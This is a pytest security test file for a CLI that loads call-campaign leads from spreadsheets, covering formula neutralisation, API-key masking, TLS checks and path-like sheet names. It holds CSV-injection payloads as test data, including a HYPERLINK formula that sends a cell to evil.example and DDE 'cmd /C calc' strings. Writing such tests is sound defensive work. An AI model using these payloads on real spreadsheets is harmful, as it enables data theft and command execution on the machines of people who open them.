"""Security promises: formula cells are inert where people open them, untouched where the API reads
them; the key is never sent in clear text across a network."""

from __future__ import annotations

import base64
import contextlib
import copy
import csv
import json
import os
import pickle
import shutil
import signal
import socket
import subprocess
import threading
import time
import urllib.parse
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pinned_clock import clean_env
from sandbox_process import CLI, running_sandbox

from loader.cli import main
from loader.pipeline import load_campaign
from loader.sandbox import Sandbox, SandboxTransport
from loader.secrets import MIN_RUN, ApiKey, mask

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "at_sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dde": "+cmd|' /C calc'!A0",
    "minus_formula": "-2+3",
    "tab_first": "\t=1+1",
    "cr_first": "\r=1+1",
    # Starts like a phone number, then runs a command: "phone-shaped" must mean the whole cell.
    "phone_then_dde": "+1+cmd|' /C calc'!A0",
    # The full-width forms, which spreadsheets also read as = @ + -.
    "fullwidth_equals": '\uff1dHYPERLINK("http://evil.example")',
    "fullwidth_at": "\uff20SUM(1+1)*cmd|' /C calc'!A0",
    "fullwidth_plus": "\uff0bcmd|' /C calc'!A0",
    "fullwidth_minus": "\uff0d2+3",
}
HARMLESS = {"phone_like": "+919876543210", "negative": "-3"}


def write_sheet(folder: Path) -> Path:
    path = folder / "webform.csv"
    headers = ["phone", "Name", *FORMULAS, *HARMLESS]
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(headers)
        writer.writerow(["+919876543210", "=1+1", *FORMULAS.values(), *HARMLESS.values()])
    return path


def test_formula_cells_are_inert_in_the_results_but_sent_to_the_api_exactly_as_written(
    tmp_path: Path,
) -> None:
    sheet = write_sheet(tmp_path)
    sandbox = Sandbox(agents=["demo-agent"])
    result = load_campaign(
        sheet,
        agent_id="demo-agent",
        sandbox=True,
        transport=SandboxTransport(sandbox),
        default_region="IN",
        output=tmp_path / "results.csv",
    )
    assert result.counts == {"scheduled": 1}

    with (tmp_path / "results.csv").open(encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    for column, formula in FORMULAS.items():
        assert row[column] == "'" + formula, column
    assert row["Name"] == "'=1+1"
    for column, value in HARMLESS.items():
        assert row[column] == value, column
    assert row["phone"] == "+919876543210"

    (call,) = sandbox.calls
    metadata = call["body"]["metadata"]
    for column, formula in FORMULAS.items():
        assert metadata[column] == formula, column
    assert metadata["Name"] == "=1+1"
    assert metadata["phone_like"] == "+919876543210"
    assert metadata["negative"] == -3


def test_formula_cells_stay_text_in_the_excel_problem_report(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    sheet = write_sheet(tmp_path)
    with sheet.open("a", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerow(["12345", "=1+1", *FORMULAS.values(), *HARMLESS.values()])  # invalid
    report = tmp_path / "problems.xlsx"
    assert main(["validate", str(sheet), "--default-region", "IN", "--report", str(report)]) == 1

    header, *rows = load_workbook(report).active.iter_rows()
    for column, formula in [*FORMULAS.items(), ("Name", "=1+1")]:
        cells = [row[[h.value for h in header].index(column)] for row in rows]
        assert [c.data_type for c in cells] == ["s", "s"], column  # text, never run
        assert cells[0].value == formula or "\r" in formula, column  # exactly as written
    with zipfile.ZipFile(report) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")  # no formula anywhere


def test_formula_cells_are_inert_in_the_problem_report(tmp_path: Path) -> None:
    path = tmp_path / "webform.csv"
    path.write_text('phone,Name\n"=HYPERLINK(""x"")",Asha\n', encoding="utf-8")
    assert main(["validate", str(path), "--report", str(tmp_path / "problems.csv")]) == 1
    with (tmp_path / "problems.csv").open(encoding="utf-8-sig", newline="") as handle:
        (problem,) = list(csv.DictReader(handle))
    assert problem["value"] == '\'=HYPERLINK("x")'


@pytest.mark.parametrize(
    "base_url",
    ["http://example.com", "http://10.0.0.5:8787", "http://api.callkaro.ai", "http://127.0.0.1.evil.example"],
)
def test_a_key_is_never_sent_over_plain_http_to_another_machine(
    tmp_path: Path, base_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    sheet = write_sheet(tmp_path)
    monkeypatch.setenv("CALLKARO_API_KEY", "a-real-looking-key")
    code = main(["run", str(sheet), "--agent-id", "a", "--default-region", "IN", "--base-url", base_url])
    err = capsys.readouterr().err
    assert code == 2
    assert err.splitlines()[0] == (
        f"callkaro-loader: error: --base-url {base_url!r} uses plain http to a host that is not this "
        "machine, which would send the API key unencrypted"
    )
    assert "a-real-looking-key" not in err
    assert not list(tmp_path.glob("*.state")), "a refused run must leave nothing behind"


# --- the key appears in nothing the loader produces ----------------------------------------------

MARKER = "ck-live-7f3a9c2e-MARKER-d41d8cd98f00b204"
SAMPLES = Path(__file__).resolve().parent.parent / "sample_data"
LEADS = "phone,Name,City\n+91 98765 43210,Asha,Pune\n+91 98765 43211,Ravi,Delhi\n12345,Bad,Goa\n"


@contextlib.contextmanager
def sandbox(*options: str) -> Iterator[str]:
    with running_sandbox("--agent", "demo-agent", "--agent", "other-agent", *options) as server:
        yield server.url


def campaign_for(url: str, agent: str, key: str) -> str:
    # Under --drop-rate the answer never comes, but the campaign is recorded all the same.
    with contextlib.suppress(httpx.TransportError):
        httpx.post(f"{url}/call/campaign", json={"name": "x", "agent_id": agent}, headers={"X-API-KEY": key})
    return str(httpx.get(f"{url}/_sandbox/campaigns").json()[-1]["batch_id"])


def load(
    folder: Path,
    url: str,
    *options: str,
    name: str,
    stop_when: str | None = None,
    key: str = MARKER,
    agent: str = "demo-agent",
    results: str = "csv",
) -> tuple[str, str]:
    """Run the installed command with every output switched on; return stdout and stderr.

    ``stop_when``: the sandbox's URL; SIGTERM is sent once the campaign and the first call have
    reached it, so the run is surely sending."""
    env = clean_env()
    env["CALLKARO_API_KEY"] = key
    argv = [
        CLI, "run", "leads.csv", "--agent-id", agent, "--default-region", "IN", "--base-url", url,
        "--output", f"{name}.results.{results}", "--log-file", f"{name}.log.jsonl",
        "--summary-json", f"{name}.summary.json", "--no-progress", *options,
        # The call ledger is searched too; it skips nothing, so every run sends the same two rows.
        "--history", "ledger.sqlite", "--skip-recent", "0",
    ]  # fmt: skip
    with subprocess.Popen(argv, cwd=folder, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as run:
        if stop_when is not None:
            wait_for_requests(stop_when, 2, run)
            run.send_signal(signal.SIGTERM)
        out, err = run.communicate(timeout=120)
    return out.decode(), err.decode()


def wait_for_requests(url: str, count: int, run: subprocess.Popen[bytes]) -> None:
    """Until the sandbox at ``url`` has received ``count`` API requests (the run is sending)."""
    deadline = time.monotonic() + 60
    while httpx.get(f"{url}/_sandbox/stats", timeout=10).json().get("requests", 0) < count:
        assert run.poll() is None, "the run ended before it sent anything"
        assert time.monotonic() < deadline, f"no request reached the sandbox in 60 s: {run.args}"
        time.sleep(0.02)


def test_the_api_key_appears_in_no_output_log_results_state_summary_or_report(tmp_path: Path) -> None:
    folder = tmp_path
    (folder / "leads.csv").write_text(LEADS, encoding="utf-8")
    (folder / "sample.xlsx").write_bytes((SAMPLES / "contacts.xlsx").read_bytes())
    printed: list[str] = []

    with sandbox("--api-key", MARKER) as url:
        printed += load(folder, url, name="ok")
        other = campaign_for(url, "other-agent", MARKER)
        printed += load(folder, url, "--batch-id", other, name="refused-400")
    with sandbox("--api-key", "a-different-key") as url:
        printed += load(folder, url, name="refused-401")
    with sandbox("--api-key", MARKER, "--error-rate", "1.0", "--seed", "1") as url:
        printed += load(folder, url, name="server-error-500")
    with sandbox("--api-key", MARKER, "--drop-rate", "1.0", "--seed", "1") as url:
        batch = campaign_for(url, "demo-agent", MARKER)
        printed += load(folder, url, "--batch-id", batch, name="no-answer")
    with sandbox("--api-key", MARKER, "--latency-ms", "1500") as url:
        # One call at a time, stopped once the first has reached the sandbox: that one is answered
        # in the grace period, the second is never sent.
        printed += load(folder, url, "--concurrency", "1", name="interrupted", stop_when=url)
    for report in ("report.csv", "report.xlsx"):
        done = subprocess.run(
            [CLI, "validate", "leads.csv", "--default-region", "IN", "--report", report],
            cwd=folder,
            env={**os.environ, "CALLKARO_API_KEY": MARKER},
            capture_output=True,
            text=True,
            check=False,
        )
        printed += [done.stdout, done.stderr]

    produced = sorted(p.name for p in folder.iterdir() if p.is_file())
    # Every kind of output was really produced, so the search below means something.
    for name in ("ok", "refused-400", "refused-401", "server-error-500", "no-answer", "interrupted"):
        assert f"{name}.results.csv" in produced and f"{name}.results.csv.state" in produced, name
        assert f"{name}.log.jsonl" in produced and f"{name}.summary.json" in produced, name
    assert {"report.csv", "report.xlsx", "ledger.sqlite"} <= set(produced)
    statuses = {
        name: json.loads((folder / f"{name}.summary.json").read_text())["counts"]
        for name in ("ok", "refused-400", "server-error-500", "no-answer", "interrupted")
    }
    assert statuses["ok"].get("scheduled") == 2
    assert statuses["refused-400"].get("failed") == 2
    assert statuses["no-answer"].get("uncertain") == 2
    assert statuses["interrupted"] == {"scheduled": 1, "invalid": 1, "pending": 1}

    leaks = [p.name for p in folder.iterdir() if p.is_file() and MARKER.encode() in p.read_bytes()]
    assert leaks == []
    assert not [text for text in printed if MARKER in text]


def test_path_like_sheet_and_header_names_are_only_text(tmp_path: Path) -> None:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "..%2F..%2Fetc"
    sheet.append(["phone", "../../outside.txt", "/etc/passwd", "C:\\Windows\\x"])
    sheet.append(["+919876543210", "a", "b", "c"])
    inner = tmp_path / "in"
    inner.mkdir()
    workbook.save(inner / "leads.xlsx")
    before = set(tmp_path.rglob("*"))

    result = load_campaign(
        inner / "leads.xlsx", agent_id="demo-agent", sandbox=True, default_region="IN", sheet="..%2F..%2Fetc"
    )

    assert result.counts == {"scheduled": 1}
    created = set(tmp_path.rglob("*")) - before
    assert {p.parent for p in created} == {inner}, created
    assert result.outcomes.index.tolist() == [2]


def test_a_403_that_echoes_the_key_back_leaks_it_nowhere(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    def api(request: httpx.Request) -> httpx.Response:
        key = request.headers["X-API-KEY"]
        return httpx.Response(403, json={"status": "error", "message": f"Key {key} is not allowed here"})

    (tmp_path / "leads.csv").write_text(LEADS, encoding="utf-8")
    result = load_campaign(
        tmp_path / "leads.csv",
        agent_id="demo-agent",
        default_region="IN",
        api_key=MARKER,
        transport=httpx.MockTransport(api),
        log_file=tmp_path / "run.log.jsonl",
        summary_json=tmp_path / "summary.json",
    )
    assert result.exit_code == 3
    assert result.refused is not None and "********" in str(result.refused)
    assert MARKER not in repr(result) and MARKER not in str(result.refused)
    out, err = capsys.readouterr()
    assert MARKER not in out + err
    assert [p.name for p in tmp_path.iterdir() if MARKER.encode() in p.read_bytes()] == []


# --- a server that echoes the key back in every form a person would recognise --------------------

#: A key with characters that URL-encoding and base64 change, so that each form differs.
HOSTILE_KEY = "ck_live+7f3a9c2e/MARKER=d41d8cd98f00b204"
KEY_FORMS = {
    "as sent": HOSTILE_KEY,
    "lower-cased": HOSTILE_KEY.lower(),
    "upper-cased": HOSTILE_KEY.upper(),
    "base64": base64.b64encode(HOSTILE_KEY.encode()).decode(),
    "url-safe base64": base64.urlsafe_b64encode(HOSTILE_KEY.encode()).decode().rstrip("="),
    "url-encoded": urllib.parse.quote(HOSTILE_KEY, safe=""),
    "first 12 characters": HOSTILE_KEY[:12],
    "last 8 characters": HOSTILE_KEY[-8:],
    "letter-spaced": " ".join(HOSTILE_KEY),
    "dot-spaced upper-cased": ".".join(HOSTILE_KEY.upper()),
}
FORM_LEADS = "phone,Name,form\n" + "".join(
    f"+91 98765 432{index:02d},Lead {index},{form}\n" for index, form in enumerate(KEY_FORMS)
)


def hostile_api() -> tuple[Any, list[dict[str, Any]]]:
    """A CallKaro API that answers with the key it was sent, chosen by ``agent_id``:

    ``echo-in-campaign``: the campaign is refused (400) with every form of the key in the message;
    ``echo-in-calls``: each call is refused (400) with the form its row's ``form`` cell names;
    ``key-as-batch-id`` / ``key-in-call-id``: success, with the key as (or inside) the id;
    any other: success. ``calls`` records every request body that reached it."""
    from starlette.applications import Starlette
    from starlette.requests import Request
    from starlette.responses import JSONResponse
    from starlette.routing import Route

    calls: list[dict[str, Any]] = []
    agents: dict[str, str] = {}

    async def campaign(request: Request) -> JSONResponse:
        key, agent = request.headers["x-api-key"], (await request.json())["agent_id"]
        calls.append({"campaign_for": agent})
        if agent == "echo-in-campaign":
            told = "; ".join(f"{name}: {form}" for name, form in forms_of(key).items())
            return JSONResponse({"status": "error", "message": f"key not allowed ({told})"}, 400)
        batch = key if agent == "key-as-batch-id" else f"batch-{len(agents)}"
        agents[batch] = agent
        return JSONResponse({"status": "success", "batch_id": batch})

    async def outbound(request: Request) -> JSONResponse:
        body = await request.json()
        calls.append(body)
        key, agent = request.headers["x-api-key"], agents[body["batch_id"]]
        if agent not in ("echo-in-calls", "key-in-call-id"):
            return JSONResponse({"status": "success", "call_id": f"call-{len(calls)}"})
        if agent == "key-in-call-id":
            return JSONResponse({"status": "success", "call_id": f"call-{key}-1"})
        form = forms_of(key)[body["metadata"]["form"]]
        return JSONResponse({"status": "error", "message": f"the key {form} may not call this number"}, 400)

    routes = [
        Route("/call/campaign", campaign, methods=["POST"]),
        Route("/call/outbound", outbound, methods=["POST"]),
    ]
    return Starlette(routes=routes), calls


def forms_of(key: str) -> dict[str, str]:
    assert key == HOSTILE_KEY
    return KEY_FORMS


@contextlib.contextmanager
def serving(app: Any, **config: Any) -> Iterator[str]:
    """``app`` served by uvicorn on a loopback port, in a thread; its base URL."""
    import uvicorn

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    server = uvicorn.Server(uvicorn.Config(app, log_level="critical", lifespan="off", **config))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]}, daemon=True)
    thread.start()
    try:
        deadline = time.monotonic() + 30
        while not server.started:  # set by uvicorn once it is accepting connections
            assert thread.is_alive() and time.monotonic() < deadline, "the hostile API did not start"
            time.sleep(0.01)
        scheme = "https" if "ssl_certfile" in config else "http"
        yield f"{scheme}://127.0.0.1:{listener.getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join(timeout=30)
        listener.close()


def texts_of(folder: Path) -> dict[str, bytes]:
    """Every file's bytes; an .xlsx as the XML inside it (its zip would hide the text)."""
    found: dict[str, bytes] = {}
    for path in folder.iterdir():
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as archive:
                found[path.name] = b"".join(archive.read(name) for name in archive.namelist())
        elif path.is_file():
            found[path.name] = path.read_bytes()
    return found


def leaked(folder: Path, printed: list[str], forms: dict[str, str]) -> list[str]:
    """Each (form, output) in which that form of the key was found."""
    outputs = {**texts_of(folder), **{f"printed #{i}": text.encode() for i, text in enumerate(printed)}}
    return [
        f"{name} in {where}"
        for name, form in forms.items()
        for where, data in outputs.items()
        if form.encode() in data or form.lower().encode() in data.lower()
    ]


def test_a_server_echoing_the_key_in_any_recognisable_form_leaks_it_into_no_output(tmp_path: Path) -> None:
    (tmp_path / "leads.csv").write_text(FORM_LEADS, encoding="utf-8")
    app, calls = hostile_api()
    with serving(app) as url:
        refused = load(tmp_path, url, name="campaign", key=HOSTILE_KEY, agent="echo-in-campaign")
        rejected = load(tmp_path, url, name="calls", key=HOSTILE_KEY, agent="echo-in-calls", results="xlsx")
    summaries = {
        name: json.loads((tmp_path / f"{name}.summary.json").read_text()) for name in ("campaign", "calls")
    }
    # The echoes really came back and were recorded, so the search below means something.
    assert summaries["campaign"]["exit_code"] == 3 and "key not allowed (as sent: ********" in refused[1]
    assert summaries["calls"]["counts"] == {"failed": len(KEY_FORMS)}
    assert len(calls) == 2 + len(KEY_FORMS)  # two campaigns asked for, and every call
    log = (tmp_path / "calls.log.jsonl").read_text(encoding="utf-8")
    assert log.count("HTTP 400: the key ******** may not call this number") == len(KEY_FORMS)

    assert leaked(tmp_path, [*refused, *rejected], KEY_FORMS) == []


@pytest.mark.parametrize(("agent", "field"), [("key-as-batch-id", "batch_id"), ("key-in-call-id", "call_id")])
def test_the_key_handed_back_as_an_id_is_refused_and_never_stored(
    tmp_path: Path, agent: str, field: str
) -> None:
    (tmp_path / "leads.csv").write_text(FORM_LEADS, encoding="utf-8")
    app, calls = hostile_api()
    with serving(app) as url:
        # One call at a time, so that exactly one is in flight when the first answer is read.
        out, err = load(tmp_path, url, "--concurrency", "1", name="run", key=HOSTILE_KEY, agent=agent)
    summary = json.loads((tmp_path / "run.summary.json").read_text())
    assert summary["exit_code"] == 3
    assert err.splitlines() == [
        f"callkaro-loader: error: the API sent the API key back as the {field}; the id was not stored "
        "and nothing more is sent",
        "hint: Report this to CallKaro, and replace the key if others may have seen their answers.",
    ]
    if field == "batch_id":
        assert len(calls) == 1 and summary["counts"] == {"pending": len(KEY_FORMS)}
    else:
        # The API said the first call is scheduled: it is never sent again, and no other is sent.
        assert len(calls) == 2 and summary["counts"] == {"uncertain": 1, "pending": len(KEY_FORMS) - 1}
    assert leaked(tmp_path, [out, err], KEY_FORMS) == []


@pytest.mark.parametrize(
    ("argv", "named"),
    [
        (["run", "leads.csv", "--api", MARKER], "unrecognized arguments: --api ********"),
        (["run", "leads.csv", "--token=" + MARKER], "unrecognized arguments: --token=********"),
        (["validate", "leads.csv", "--a=" + MARKER], "ambiguous option: --a=******** could match"),
        # argparse takes the key for the command here: hidden all the same.
        (["--auth", MARKER, "run", "leads.csv"], "invalid choice: '********'"),
    ],
)
def test_a_key_given_to_an_unknown_flag_is_not_echoed_in_the_usage_error(
    argv: list[str], named: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exited:
        main(argv)
    err = capsys.readouterr().err
    assert exited.value.code == 2
    assert named in err.splitlines()[0] and len(err.splitlines()) == 2
    assert MARKER[:8] not in err


def test_a_key_from_dotenv_pasted_as_a_stray_argument_is_not_echoed_in_the_usage_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # The key lives in .env only (as the README suggests): the usage error hides it all the same.
    monkeypatch.delenv("CALLKARO_API_KEY", raising=False)
    monkeypatch.chdir(tmp_path)
    (tmp_path / ".env").write_text(f"CALLKARO_API_KEY={MARKER}\n", encoding="utf-8")
    with pytest.raises(SystemExit) as exited:
        main(["run", "leads.csv", MARKER])
    err = capsys.readouterr().err
    assert exited.value.code == 2
    assert "unrecognized arguments: ********" in err.splitlines()[0]
    assert MARKER[:8] not in err


def test_the_key_object_never_shows_the_key_and_cannot_be_pickled() -> None:
    key = ApiKey(MARKER)
    for shown in (repr(key), str(key), f"{key}", f"{key!r}", repr([key]), repr({"key": key})):
        assert shown.count("ApiKey('********')") == 1 and MARKER[:8] not in shown, shown
    for copy_out in (pickle.dumps, lambda k: pickle.dumps(k, protocol=0), copy.copy, copy.deepcopy):
        with pytest.raises(TypeError, match="an ApiKey cannot be pickled"):
            copy_out(key)
    assert key.reveal() == MARKER


@pytest.mark.parametrize(("form", "echoed"), KEY_FORMS.items())
def test_mask_hides_each_form_of_the_key_inside_a_message(form: str, echoed: str) -> None:
    key = ApiKey(HOSTILE_KEY)
    assert mask(f"HTTP 400: key {echoed} is not allowed", key) == "HTTP 400: key ******** is not allowed"
    assert key.found_in(f"call-{echoed}-1")


@pytest.mark.parametrize(
    "message",
    [
        "Invalid API key",
        "Missing X-API-KEY in headers",
        "agent_id demo-agent does not match campaign 0a1b2c3d4e5f60718293a4b5, which belongs to agent x",
        "to_number must be in E.164 format",
        " ".join(HOSTILE_KEY[: MIN_RUN - 1]),  # spaced, one character too short
        HOSTILE_KEY[: MIN_RUN - 1] + " " + HOSTILE_KEY[MIN_RUN - 1 : 2 * MIN_RUN - 2],  # two runs too short
    ],
)
def test_mask_leaves_ordinary_messages_and_short_fragments_alone(message: str) -> None:
    assert mask(message, ApiKey(HOSTILE_KEY)) == message


def self_signed_certificate(folder: Path) -> tuple[Path, Path]:
    """A certificate for 127.0.0.1 that no authority signed, and its key."""
    openssl = shutil.which("openssl")
    if openssl is None:
        pytest.skip("the openssl command is needed to make a self-signed certificate")
    cert, key = folder / "cert.pem", folder / "key.pem"
    subprocess.run(
        [openssl, "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-keyout", str(key),
         "-out", str(cert), "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1"],
        check=True, capture_output=True,
    )  # fmt: skip
    return cert, key


def test_https_to_a_server_whose_certificate_no_authority_signed_sends_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from loader.send import RetryPolicy

    for variable in ("SSL_CERT_FILE", "SSL_CERT_DIR", "CALLKARO_BASE_URL"):
        monkeypatch.delenv(variable, raising=False)
    cert, key = self_signed_certificate(tmp_path)
    (tmp_path / "leads.csv").write_text(LEADS, encoding="utf-8")
    app, calls = hostile_api()

    def run(name: str) -> Any:
        return load_campaign(
            tmp_path / "leads.csv", agent_id="demo-agent", default_region="IN", api_key=MARKER,
            base_url=url, output=tmp_path / f"{name}.csv", retry=RetryPolicy(attempts=1),
        )  # fmt: skip

    with serving(app, ssl_certfile=str(cert), ssl_keyfile=str(key)) as url:
        refused = run("untrusted")
        assert calls == []  # not even the campaign: the key never left
        assert refused.counts == {"invalid": 1, "pending": 2}
        message = refused.outcomes.loc[2, "callkaro_message"]
        assert "could not reach the API" in message and "CERTIFICATE_VERIFY_FAILED" in message.upper()
        # The same server, once its certificate is trusted: it was verification alone that refused it.
        monkeypatch.setenv("SSL_CERT_FILE", str(cert))
        assert run("trusted").counts == {"scheduled": 2, "invalid": 1}


def test_a_key_shorter_than_a_run_is_hidden_whole_and_its_encodings_are_left_alone() -> None:
    # No real key is this short; its base64 ("aw==") must not hide every "a" and "w" of a message.
    assert mask("call-2 was scheduled (aw==)", ApiKey("k")) == "call-2 was scheduled (aw==)"
    assert not ApiKey("k").found_in("call-2") and ApiKey("test-key").found_in("id-TEST-KEY")


@pytest.mark.parametrize("before", ["", "a", "ab"], ids=["aligned", "one byte in", "two bytes in"])
def test_mask_finds_the_key_base64_encoded_inside_a_longer_text(before: str) -> None:
    encoded = base64.b64encode(f"{before}{HOSTILE_KEY} was refused".encode()).decode()
    masked = mask(encoded, ApiKey(HOSTILE_KEY))
    # All but the few characters the key shares with its neighbours in a 3-byte group.
    assert masked.count("********") == 1 and len(masked) <= len(encoded) - len(HOSTILE_KEY)


# --- mask is fast, and hides exactly what looking at every position would --------------------------


def reference_mask(text: str, secret: str) -> str:
    """``mask`` done the slow, obvious way: every position of the text, and of each letter-spaced
    stretch, checked against every run of the key's forms; each stretch of hidden characters one
    ``********``."""
    from loader import secrets

    run = min(MIN_RUN, len(secret))
    runs = secrets._runs(secrets._forms(secret) if len(secret) >= MIN_RUN else [secret], run)
    folded = secrets._fold(text)
    hidden = [False] * len(text)
    for start in range(len(text) - run + 1):
        if folded[start : start + run] in runs:
            hidden[start : start + run] = [True] * run
    for spaced in secrets._SPACED.finditer(folded):
        letters = spaced[0][::2]
        for start in range(len(letters) - run + 1):
            if letters[start : start + run] in runs:
                first = spaced.start() + 2 * start
                hidden[first : first + 2 * run - 1] = [True] * (2 * run - 1)
    return "".join(
        secrets.MASK if hide and (i == 0 or not hidden[i - 1]) else "" if hide else char
        for i, (char, hide) in enumerate(zip(text, hidden, strict=True))
    )


#: Pieces of texts a server might send: the key's forms, cut anywhere, among ordinary words.
_PIECES = st.one_of(
    st.sampled_from(list(KEY_FORMS.values())).flatmap(
        lambda form: st.tuples(st.integers(0, len(form)), st.integers(0, len(form))).map(
            lambda cut: form[min(cut) : max(cut)]
        )
    ),
    st.text(alphabet="abcdefABCDEF0123456789+/=_-.%: ", max_size=12),
    st.text(max_size=6),
)


@settings(max_examples=300, deadline=None)
@given(
    pieces=st.lists(_PIECES, max_size=8),
    secret=st.one_of(st.just(HOSTILE_KEY), st.text(alphabet="abcdef0123456789-_", min_size=1, max_size=12)),
)
def test_mask_hides_exactly_what_checking_every_position_hides(pieces: list[str], secret: str) -> None:
    text = "".join(pieces)
    assert mask(text, ApiKey(secret)) == reference_mask(text, secret)


def test_the_keys_pieces_are_worked_out_once_not_for_every_message() -> None:
    key = ApiKey(HOSTILE_KEY)
    assert mask(f"bad key {HOSTILE_KEY}", key) == "bad key ********"
    first = key._pattern
    assert mask(f"{KEY_FORMS['base64']} again", key) == "******** again"
    assert first is not None and key._pattern is first
